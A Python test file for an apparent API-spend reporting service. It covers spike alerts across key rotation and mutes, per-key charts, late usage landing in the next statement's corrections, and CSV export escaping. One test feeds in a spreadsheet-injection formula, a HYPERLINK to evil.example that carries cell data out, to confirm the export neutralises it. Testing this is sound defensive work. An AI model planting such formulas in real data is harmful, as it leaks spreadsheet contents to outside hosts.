"""Where spend reporting meets the rest of Purser: rotation and spikes, keys sharing a name on a
chart, and a statement's CSV opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import time_machine

from store import keys, spikes, statements
from store.chart_data import period_spend
from store.ingest import UsageIn, ingest_usage
from store.money import parse_money
from store.secrets import mint_local_secret
from store.spend_series import By, breakdown, window
from store.spikes import HOUR, WEEK, SpikeRule
from store.statement_csv import statement_csv
from store.types import Role
from tests import factories as f

UTC = timezone.utc
RULE = SpikeRule()


def seed(db, key_id, amounts, now):
    events = [UsageIn(f"k{key_id}-{h:%Y%m%d%H}", key_id, a, h + timedelta(minutes=30)) for h, a in amounts.items() if a]
    for n in range(0, len(events), 2000):
        db.run(ingest_usage, events[n : n + 2000], now)


def test_rotating_a_steadily_spending_key_is_not_a_spike_and_its_mute_carries_over(db):
    ws = f.workspace(db, "acme", "development")
    admin, dev = f.member(db, ws, Role.ADMIN), f.member(db, ws, Role.DEVELOPER)
    f.project(db, ws, "search")
    old, _ = f.key(db, ws, dev, name="crawler", project="search")
    check = datetime(2027, 6, 16, 15, 5, tzinfo=UTC)
    hour = spikes.last_complete_hour(check)
    steady, rotated_at, first = parse_money("$5"), hour - 2 * HOUR, RULE.since(hour) - WEEK
    seed(db, old, {first + HOUR * n: steady for n in range(int((rotated_at - first) / HOUR))}, check)
    db.run(spikes.mute_key, admin, old, 24, check - timedelta(days=2))  # a mute on the old key, lapsed by the check
    action = db.run(keys.rotate_key, admin, old)
    new = db.run(keys.complete_rotation, action.id, secret=mint_local_secret(), provider="local", provider_ref=None).key.id
    seed(db, new, {rotated_at + HOUR * n: steady for n in range(3)}, check)
    assert db.run(spikes.check_spikes, ws, RULE, check) == []
    # Ten times the usual on the new key is a spike, named by the new key; a live mute on the old key silences it.
    seed(db, new, {hour + HOUR: steady * 10}, check + HOUR)
    [spike] = db.run(spikes.check_spikes, ws, RULE, check + HOUR)
    assert spike.key_id == new
    db.run(spikes.mute_key, admin, old, 7 * 24, check + HOUR)  # past the alert's 24-hour spell, still muted
    seed(db, new, {hour + 27 * HOUR: steady * 10}, check + 27 * HOUR)
    assert db.run(spikes.check_spikes, ws, RULE, check + 27 * HOUR) == []


def test_the_chart_by_key_keeps_two_members_keys_of_the_same_name_apart(db):
    ws = f.workspace(db, "acme", "development")
    a, _ = f.key(db, ws, f.member(db, ws, Role.DEVELOPER), name="bot")
    b, _ = f.key(db, ws, f.member(db, ws, Role.DEVELOPER), name="bot")
    now = datetime(2027, 6, 16, 12, tzinfo=UTC)
    db.run(ingest_usage, [UsageIn("a", a, parse_money("$1"), now), UsageIn("b", b, parse_money("$2"), now)], now)
    w = window("month", now)
    with db.session() as s:
        text = {r.label: r.amount_micros for r in breakdown(s, ws, w.since, w.until, By.KEY)}
        chart = {label: sum(days) for label, days in period_spend(s, ws, w, By.KEY).daily.items()}
    assert len(text) == 2 and chart == text


def test_a_model_name_from_a_gateway_cannot_become_a_spreadsheet_formula(db):
    ws = f.workspace(db, "acme", "development")
    key, _ = f.key(db, ws, f.member(db, ws, Role.DEVELOPER), name="bot")
    now = datetime(2027, 6, 16, 12, tzinfo=UTC)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    db.run(ingest_usage, [UsageIn("x", key, parse_money("$1"), now, model=formula), UsageIn("y", key, parse_money("$2"), now, model="-2+3")], now)
    st = db.run(statements.build_statement, ws, now.date().replace(day=1), now + timedelta(minutes=5))
    rows = [r for r in csv.DictReader(io.StringIO(statement_csv(st))) if r["kind"] == "spend"]
    assert sorted(r["model"] for r in rows) == sorted(["'" + formula, "'-2+3"])  # shown as typed, never run


def test_spend_that_waited_behind_a_statements_close_lands_in_the_next_statements_corrections(db, monkeypatch):
    """A batch that arrived just before a month closed, but got the workspace's lock only after
    the close, is stamped when it got the lock: it is the next statement's correction, not lost."""
    from store import ingest as ingest_module
    from store.models import Workspace

    ws = f.workspace(db, "acme", "development")
    key, _ = f.key(db, ws, f.member(db, ws, Role.DEVELOPER), name="bot")
    with db.session() as s:
        s.get(Workspace, ws).created_at = datetime(2027, 4, 20, tzinfo=UTC)
        s.commit()
    db.run(ingest_usage, [UsageIn("may", key, parse_money("$3"), datetime(2027, 5, 10, tzinfo=UTC))], datetime(2027, 5, 10, 0, 1, tzinfo=UTC))
    arrived, may = datetime(2027, 6, 1, 6, 0, 0, 100_000, tzinfo=UTC), datetime(2027, 5, 1).date()
    closed = []
    for name in ("lookup_pg", "lookup_sqlite"):
        real = getattr(ingest_module, name)

        def waits_behind_the_close(s, ids, real=real):
            # The statement closes while the batch waits for the workspace's lock.
            closed.append(db.run(statements.close_statement, f.OPERATOR, ws, may, arrived + timedelta(milliseconds=5)))
            later.start()
            return real(s, ids)

        monkeypatch.setattr(ingest_module, name, waits_behind_the_close)
    later = time_machine.travel(arrived + timedelta(milliseconds=10), tick=False)
    with time_machine.travel(arrived, tick=False):
        try:
            db.run(ingest_usage, [UsageIn("late", key, parse_money("$7"), datetime(2027, 5, 31, 23, 59, tzinfo=UTC))])
        finally:
            later.stop()
    june = db.run(statements.build_statement, ws, datetime(2027, 6, 1).date(), datetime(2027, 7, 1, 7, tzinfo=UTC))
    assert (closed[0].spend_micros, june.corrections_micros) == (parse_money("$3"), parse_money("$7"))


def test_a_spike_charts_hours_are_what_the_check_judged_a_rotated_keys_history_and_no_muted_keys(db):
    from store.spike_views import chart_series
    from store.types import Scope

    ws = f.workspace(db, "acme", "development")
    admin, dev = f.member(db, ws, Role.ADMIN), f.member(db, ws, Role.DEVELOPER)
    project = f.project(db, ws, "search")
    old, _ = f.key(db, ws, dev, name="crawler", project="search")
    noisy, _ = f.key(db, ws, dev, name="noisy", project="search")
    hour = datetime(2027, 6, 16, 14, tzinfo=UTC)
    seed(db, old, {hour - WEEK: parse_money("$4"), hour - 2 * WEEK: parse_money("$4"), hour - 3 * WEEK: parse_money("$4"), hour - 2 * HOUR: parse_money("$4")}, hour)
    seed(db, noisy, {hour - HOUR: parse_money("$50")}, hour)
    action = db.run(keys.rotate_key, admin, old)
    new = db.run(keys.complete_rotation, action.id, secret=mint_local_secret(), provider="local", provider_ref=None).key.id
    db.run(spikes.mute_key, admin, noisy, 24, hour - HOUR)
    with db.session() as s:
        hours, key_spent, key_usual = chart_series(s, ws, Scope.KEY, new, hour, 4)
        _, project_spent, _ = chart_series(s, ws, Scope.PROJECT, project, hour, 4)
    assert key_spent[hours.index(hour - 2 * HOUR)] == parse_money("$4")  # the old key's hour, drawn as the new key's
    assert key_usual[hours.index(hour)] == parse_money("$4")  # the median of the same hour in the old key's weeks
    assert project_spent[hours.index(hour - HOUR)] == 0  # the muted key's $50 was left out of the check, and of its chart
